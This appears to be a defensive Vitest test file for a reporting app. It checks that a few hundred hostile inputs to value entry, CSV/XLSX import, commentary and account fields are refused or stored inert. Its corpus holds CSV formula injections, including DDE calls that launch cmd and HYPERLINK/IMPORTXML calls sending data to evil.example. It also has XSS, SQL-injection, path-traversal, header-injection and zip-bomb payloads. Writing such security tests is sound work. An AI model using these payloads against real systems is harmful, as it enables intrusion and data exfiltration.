// The hostile-input corpus: a few hundred malformed and hostile inputs, generated here, driven through
// the real domain functions. Each is refused with a clear message, or stored as harmless text; and
// the database is byte-for-byte unchanged after the refused ones.
import { createHash } from "node:crypto";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, assert, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import type { SessionUser } from "@/lib/auth/roles";
import { isAppError, type AppError } from "@/lib/errors";
import { createPeriod, createSection, createTestUser, unique } from "@/test/factories";
import { csvFile, zipBytes } from "@/test/import-files";
import { objectContaining } from "@/test/matchers";
import { previewImport } from "@/lib/import/preview-import";
import { confirmImport } from "@/lib/import/confirm-import";
import { describeFileError } from "@/lib/import/file-errors";
import { formatMonth } from "@/lib/format/dates";
import { saveValue } from "@/lib/values/save-value";
import { transitionCommentary } from "@/lib/commentary/transition-commentary";
import { changeUserRole } from "@/lib/users/change-user-role";
import { addUser } from "@/lib/users/add-user";
import { newUserSchema } from "@/lib/users/user-input";
import { createIndicator } from "@/lib/catalogue/create-indicator";
import { newIndicatorInput } from "@/lib/catalogue/indicator-input";
import { indicatorForm, uniqueCode } from "@/test/catalogue-fixtures";
import { CommentaryMarkdown } from "@/components/commentary-markdown";
import { csvField } from "@/lib/pack/delivery/export-cells";
import { csvCell } from "@/lib/audit/audit-csv";

/** SHA-256 over every app table's rows (as JSON, in a stable order). Import batches are previews, not data. */
async function hashDatabase(): Promise<string> {
  const tables = await db.$queryRaw<{ name: string }[]>`
    SELECT table_name AS name FROM information_schema.tables
    WHERE table_schema = current_schema() AND table_type = 'BASE TABLE' AND table_name NOT IN ('_prisma_migrations', 'ImportBatch') ORDER BY 1`;
  const hash = createHash("sha256");
  for (const { name } of tables) {
    const [row] = await db.$queryRawUnsafe<{ rows: string | null }[]>(
      `SELECT string_agg(row_to_json(t)::text, E'\\n' ORDER BY row_to_json(t)::text) AS rows FROM "${name}" t`,
    );
    hash.update(`${name}\n${row.rows ?? ""}\n`);
  }
  return hash.digest("hex");
}

// ---- The generated corpus -------------------------------------------------------------------------
const FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\uFF1D"];
const FORMULA_BODIES = [
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C notepad'!A1",
  "1+1",
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"!A0")',
];
const FORMULAS = FORMULA_PREFIXES.flatMap((p) => FORMULA_BODIES.map((b) => `${p}${b}`));
const BAD_NUMBERS = [
  "NaN",
  "nan",
  "Infinity",
  "-Infinity",
  "1e309",
  "-1e309",
  "9".repeat(400),
  "1e400",
  "0x1F",
  "0b101",
  "1_000",
  "1,2,3",
  "12..5",
  "--5",
  "+-5",
  "5-",
  "٣٤",
  "１２",
  "1/2",
  "½",
  "12 34",
  "\u0000",
  "1\u00002",
  "\u202E21",
  "12abc",
  "abc",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${7*7}",
  "{{7*7}}",
  '\'; DROP TABLE "User"; --',
  '1; DELETE FROM "IndicatorValue"',
  "x".repeat(10_000),
  "1".repeat(101),
  "١٢٫٥",
  "12e",
  "e12",
  ".",
  "-",
  "−5",
  "1e-400",
];
const NEGATIVE_COUNTS = ["-1", "-0.5", "-1000000"];
const OVER_PRECISE = ["1.123456789012345678901234567890"];
const HOSTILE_VALUES = [...FORMULAS, ...BAD_NUMBERS, ...NEGATIVE_COUNTS, ...OVER_PRECISE];

const HOSTILE_TEXT = [
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "[click me](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x]( javascript:alert(1) )",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "![tracker](https://evil.example/pixel.png)",
  "<svg onload=alert(1)>",
  "<style>body{display:none}</style>",
  '=HYPERLINK("http://evil.example","x")',
  "[x](&#106;avascript:alert(1))",
];

let admin: SessionUser;
let lead: SessionUser;
let otherLead: SessionUser;
let panel: SessionUser;
let month: string;
let indicator: { id: string; code: string };
let otherIndicator: { id: string; code: string };
let sectionSlug: string;
let otherSectionSlug: string;
let seen = 0;

beforeAll(async () => {
  admin = (await createTestUser("ADMIN")).sessionUser;
  lead = (await createTestUser("SERVICE_LEAD")).sessionUser;
  otherLead = (await createTestUser("SERVICE_LEAD")).sessionUser;
  panel = (await createTestUser("PANEL_MEMBER")).sessionUser;
  const section = await createSection([lead.id]);
  const otherSection = await createSection([otherLead.id]);
  sectionSlug = section.slug;
  otherSectionSlug = otherSection.slug;
  const make = (sectionId: string) => {
    const code = uniqueCode("HOST");
    return db.indicator.create({
      data: {
        code,
        name: code,
        sectionId,
        definition: "Hostile tests",
        unit: "COUNT",
        polarity: "NEITHER",
        measureType: "MONTHLY_COUNT",
        decimals: 0,
        order: 1,
      },
    });
  };
  indicator = await make(section.id);
  otherIndicator = await make(otherSection.id);
  month = (await createPeriod()).month;
});

afterAll(() => {
  // The corpus really was a few hundred inputs.
  if (seen < 200) throw new Error(`The hostile-input corpus ran ${seen} inputs, not the few hundred it should`);
});

/** Runs a refused input: it must throw an AppError with a message fit for users, and change nothing. Returns the error. */
async function expectRefused(
  run: () => Promise<unknown>,
  codes = ["VALIDATION", "FORBIDDEN", "NOT_FOUND", "UNAUTHENTICATED", "INVALID_TRANSITION"],
): Promise<AppError> {
  seen++;
  const before = await hashDatabase();
  let error: unknown;
  try {
    await run();
  } catch (e) {
    error = e;
  }
  assert(isAppError(error), `refused with an AppError, got ${String(error)}`);
  expect(codes).toContain(error.code);
  expect(error.message.length).toBeGreaterThan(3);
  expect(error.message).not.toMatch(/prisma|stack|undefined|\bat \w+ \(/i);
  expect(await hashDatabase()).toBe(before);
  return error;
}

describe("hostile figures typed into the value grid", () => {
  it(`refuses all ${HOSTILE_VALUES.length} hostile values with a message on the field, and stores nothing`, async () => {
    for (const value of HOSTILE_VALUES) {
      const error = await expectRefused(() => saveValue(lead, { month, indicatorId: indicator.id, expectedRevision: 0, value }));
      expect(error.fieldErrors?.value ?? error.message, `message for ${JSON.stringify(value.slice(0, 40))}`).toBeTruthy();
    }
  });

  it("refuses forged posts: another lead's indicator, a panel member, an unknown indicator, a not-available without reason", async () => {
    await expectRefused(() => saveValue(lead, { month, indicatorId: otherIndicator.id, expectedRevision: 0, value: "5" }));
    await expectRefused(() => saveValue(panel, { month, indicatorId: indicator.id, expectedRevision: 0, value: "5" }));
    await expectRefused(() => saveValue(null, { month, indicatorId: indicator.id, expectedRevision: 0, value: "5" }));
    await expectRefused(() => saveValue(lead, { month, indicatorId: "not-a-uuid' OR 1=1 --", expectedRevision: 0, value: "5" }));
    await expectRefused(() => saveValue(lead, { month: "2019-13", indicatorId: indicator.id, expectedRevision: 0, value: "5" }));
    await expectRefused(() =>
      saveValue(lead, { month, indicatorId: indicator.id, expectedRevision: 0, notAvailable: true, notAvailableReason: "   " }),
    );
    await expectRefused(() =>
      saveValue(lead, {
        month,
        indicatorId: indicator.id,
        expectedRevision: 0,
        notAvailable: true,
        notAvailableReason: "r".repeat(20_000),
      }),
    );
  });
});

describe("hostile import files", () => {
  /** A preview must refuse the file, or flag the hostile row; either way confirming changes nothing. */
  async function expectImportRefused(file: { bytes: Uint8Array; fileName: string; contentType?: string }) {
    seen++;
    const before = await hashDatabase();
    const result = await previewImport(admin, month, file);
    // Refused with a message that says why, or previewed with the hostile row flagged and the confirmation refused.
    const outcome = result.ok
      ? {
          rowFlagged: result.preview.counts.error > 0,
          confirmed: await confirmImport(admin, result.batchId).then(
            () => "imported",
            (e: unknown) => e,
          ),
        }
      : { explained: describeFileError(result.error, formatMonth).length > 10 };
    expect(outcome, `${file.fileName}: ${new TextDecoder().decode(file.bytes.slice(0, 80))}`).toEqual(
      result.ok ? { rowFlagged: true, confirmed: objectContaining({ code: "VALIDATION" }) } : { explained: true },
    );
    expect(await hashDatabase()).toBe(before);
  }

  it(`flags every hostile cell (${HOSTILE_VALUES.length} values) and refuses to import them`, async () => {
    for (const value of HOSTILE_VALUES) {
      const cell = `"${value.replace(/"/g, '""')}"`;
      await expectImportRefused(csvFile(`code,period,value\n${indicator.code},${month},${cell}\n`));
    }
  });

  it("refuses formula injection in the code and period columns", async () => {
    for (const formula of FORMULAS.slice(0, 14)) {
      const cell = `"${formula.replace(/"/g, '""')}"`;
      await expectImportRefused(csvFile(`code,period,value\n${cell},${month},5\n`));
      await expectImportRefused(csvFile(`code,period,value\n${indicator.code},${cell},5\n`));
    }
  });

  it("refuses broken files: encodings, BOMs, duplicates, sizes, zip bombs, wrong types", async () => {
    const enc = new TextEncoder();
    // Decoded correctly (UTF-16 with a BOM is), the row's figure is still refused.
    const row = `code,period,value\n${indicator.code},${month},=1+1\n`;
    const utf16 = (s: string, bom: number[]) =>
      new Uint8Array([...bom, ...s.split("").flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8])]);
    const files: { bytes: Uint8Array; fileName: string; contentType?: string }[] = [
      { bytes: utf16(row, [0xff, 0xfe]), fileName: "utf16le.csv" },
      { bytes: utf16(row, []), fileName: "utf16-no-bom.csv" },
      { bytes: new Uint8Array([0xfe, 0xff, 0, 0x63]), fileName: "utf16be.csv" },
      {
        bytes: new Uint8Array([...enc.encode("code,period,value\n"), 0xff, 0xfe, 0xc3, 0x28, ...enc.encode(`,${month},5\n`)]),
        fileName: "bad-utf8.csv",
      },
      {
        bytes: new Uint8Array([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf, ...enc.encode(`code,period,value\n${indicator.code},${month},abc\n`)]),
        fileName: "double-bom.csv",
      },
      csvFile(`code,period,value\n${indicator.code},${month},5\n${indicator.code},${month},6\n`, "duplicates.csv"),
      csvFile("", "empty.csv"),
      csvFile("code,period,value\n", "header-only.csv"),
      csvFile("\n\n\n", "blank-lines.csv"),
      csvFile(`"unterminated,${month},5\n`, "unterminated.csv"),
      csvFile(`value\n5\n`, "no-code-column.csv"),
      csvFile(
        `code,period,value\n${indicator.code},${month},5\n`.replace(/\n/g, "\r").repeat(1) + `${indicator.code},${month},x`,
        "old-mac-endings.csv",
      ),
      { bytes: new Uint8Array(10 * 1024 * 1024).fill(0x41), fileName: "ten-megabytes.csv", contentType: "text/csv" },
      csvFile(`code,period,value\n${`${indicator.code},${month},x\n`.repeat(60_000)}`, "too-many-rows.csv"),
      csvFile(`code,period,value,${"c,".repeat(20_000)}\n`, "wide.csv"),
      { bytes: zipBytes([{ name: "xl/worksheets/sheet1.xml", data: new Uint8Array(1024), claim: 4_000_000_000 }]), fileName: "bomb.xlsx" },
      { bytes: zipBytes([{ name: "xl/worksheets/sheet1.xml", data: new Uint8Array(70 * 1024 * 1024) }]), fileName: "real-bomb.xlsx" },
      {
        bytes: zipBytes(Array.from({ length: 2_100 }, (_, i) => ({ name: `x/${i}.xml`, data: new Uint8Array(1) }))),
        fileName: "many-entries.xlsx",
      },
      {
        bytes: enc.encode(row),
        fileName: "csv-named.xlsx",
        contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      },
      {
        bytes: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]),
        fileName: "picture.csv",
        contentType: "image/png",
      },
      { bytes: new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]), fileName: "truncated.xlsx" },
      { bytes: enc.encode("%PDF-1.7\n"), fileName: "report.pdf", contentType: "application/pdf" },
      { bytes: enc.encode(row), fileName: "values.exe", contentType: "application/x-msdownload" },
      { bytes: enc.encode("<html><script>alert(1)</script></html>"), fileName: "page.csv", contentType: "text/html" },
      { bytes: enc.encode(`code,period,value\n${indicator.code},${month},5\n`.replace("5", "<script>")), fileName: "../../etc/passwd.csv" },
    ];
    for (const file of files) await expectImportRefused(file);
  }, 120_000);
});

describe("hostile commentary", () => {
  it("stores script, raw HTML and javascript: links as text, and renders none of them live", async () => {
    let version = 0;
    for (const text of HOSTILE_TEXT) {
      seen++;
      await transitionCommentary(lead, { month, slug: sectionSlug, action: "save", expectedVersion: version, body: text });
      const stored = await db.commentary.findFirstOrThrow({ where: { period: { month }, section: { slug: sectionSlug } } });
      expect(stored.body).toBe(text.trim());
      version = stored.version;
      const html = renderToStaticMarkup(createElement(CommentaryMarkdown, { body: stored.body }));
      expect(html).not.toMatch(/<(script|iframe|img|svg|style)\b/i);
      expect(html).not.toMatch(/<[a-z][^>]*\son\w+=/i);
      expect(html).not.toMatch(/href="\s*(javascript|data|vbscript|&#)/i);
    }
  });

  it("refuses over-long text, other sections, other roles' transitions and unknown actions", async () => {
    const current = await db.commentary.findFirst({ where: { period: { month }, section: { slug: sectionSlug } } });
    const v = current?.version ?? 0;
    await expectRefused(() =>
      transitionCommentary(lead, { month, slug: sectionSlug, action: "save", expectedVersion: v, body: "x".repeat(20_001) }),
    );
    await expectRefused(() =>
      transitionCommentary(lead, { month, slug: sectionSlug, action: "save", expectedVersion: v, body: "y".repeat(5_000_000) }),
    );
    await expectRefused(() =>
      transitionCommentary(lead, { month, slug: otherSectionSlug, action: "save", expectedVersion: 0, body: "Forged" }),
    );
    await expectRefused(() =>
      transitionCommentary(lead, { month, slug: sectionSlug, action: "approve", expectedVersion: v, body: "Self-approved" }),
    );
    await expectRefused(() => transitionCommentary(panel, { month, slug: sectionSlug, action: "save", expectedVersion: v, body: "Panel" }));
    await expectRefused(() => transitionCommentary(lead, { month, slug: "../../admin", action: "save", expectedVersion: 0, body: "x" }));
    await expectRefused(() =>
      transitionCommentary(lead, { month: "2019-08'; --", slug: sectionSlug, action: "save", expectedVersion: 0, body: "x" }),
    );
    await expectRefused(() =>
      transitionCommentary(lead, { month, slug: sectionSlug, action: "return", expectedVersion: v, comment: "Lead returning" }),
    );
  });
});

describe("hostile catalogue and account fields", () => {
  const sectionFor = async () => (await db.section.findFirstOrThrow({ where: { slug: sectionSlug } })).id;

  it("refuses hostile indicator codes and over-long fields before they reach the database", async () => {
    const sectionId = await sectionFor();
    const badCodes = [
      ...FORMULAS.slice(0, 14),
      "<script>",
      "A B",
      "a_lower",
      "_LEADING",
      "X".repeat(41),
      "",
      "CODE\u0000",
      "CÓDIGO",
      "CODE;DROP",
    ];
    for (const code of badCodes) {
      seen++;
      expect(newIndicatorInput.safeParse(indicatorForm(sectionId, { code })).success, JSON.stringify(code)).toBe(false);
    }
    for (const field of ["name", "definition"]) {
      seen++;
      expect(
        newIndicatorInput.safeParse(indicatorForm(sectionId, { code: uniqueCode("LONG"), [field]: "n".repeat(100_000) })).success,
      ).toBe(false);
    }
    for (const [field, value] of [
      ["decimals", "NaN"],
      ["decimals", "-1"],
      ["decimals", "1e9"],
      ["unit", "BITCOIN"],
      ["sectionId", "' OR 1=1"],
    ] as const) {
      seen++;
      expect(
        newIndicatorInput.safeParse(indicatorForm(sectionId, { code: uniqueCode("BAD"), [field]: value })).success,
        `${field}=${value}`,
      ).toBe(false);
    }
  });

  it("stores hostile indicator names as plain text, escaped in the audit export", async () => {
    const sectionId = await sectionFor();
    const name = '=HYPERLINK("http://evil.example","Referrals") <script>alert(1)</script>';
    seen++;
    const created = await createIndicator(admin, newIndicatorInput.parse(indicatorForm(sectionId, { code: uniqueCode("TXT"), name })));
    expect((await db.indicator.findUniqueOrThrow({ where: { id: created.id } })).name).toBe(name);
    expect(csvCell(name).startsWith("\"'=HYPERLINK")).toBe(true);
    await db.indicator.update({ where: { id: created.id }, data: { active: false } });
  });

  it("refuses hostile account details, and a role change forged by a non-administrator", async () => {
    const bad = [
      { name: "x".repeat(10_000), email: `${unique("long")}@test.example` },
      { name: "", email: `${unique("blank")}@test.example` },
      { name: "Eve", email: "not-an-email" },
      { name: "Eve", email: `eve@test.example\r\nBcc: all@test.example` },
      { name: "Eve", email: `${"e".repeat(400)}@test.example` },
      { name: "Eve", email: "<script>@test.example" },
      { name: "Eve", email: "" },
    ];
    for (const input of bad) {
      seen++;
      expect(newUserSchema.safeParse({ ...input, role: "ADMIN" }).success, JSON.stringify(input).slice(0, 80)).toBe(false);
    }
    for (const role of ["SUPERUSER", "admin", "", "ADMIN ", "__proto__"]) {
      seen++;
      expect(newUserSchema.safeParse({ name: "Eve", email: `${unique("role")}@test.example`, role }).success, role).toBe(false);
    }
    const victim = await db.user.findUniqueOrThrow({ where: { id: panel.id } });
    await expectRefused(() => changeUserRole(lead, { userId: victim.id, expectedVersion: victim.adminVersion, role: "ADMIN" }));
    await expectRefused(() => changeUserRole(panel, { userId: panel.id, expectedVersion: victim.adminVersion, role: "ADMIN" }));
    await expectRefused(() => addUser(lead, newUserSchema.parse({ name: "Eve", email: `${unique("eve")}@test.example`, role: "ADMIN" })));
    // A formula-shaped name is text: stored as typed, made inert in exports.
    seen++;
    const { user } = await addUser(
      admin,
      newUserSchema.parse({ name: "=cmd|' /C calc'!A0", email: `${unique("formula")}@test.example`, role: "PANEL_MEMBER" }),
    );
    expect(user.name).toBe("=cmd|' /C calc'!A0");
    expect(csvField(user.name)).toBe("'=cmd|' /C calc'!A0");
  });
});
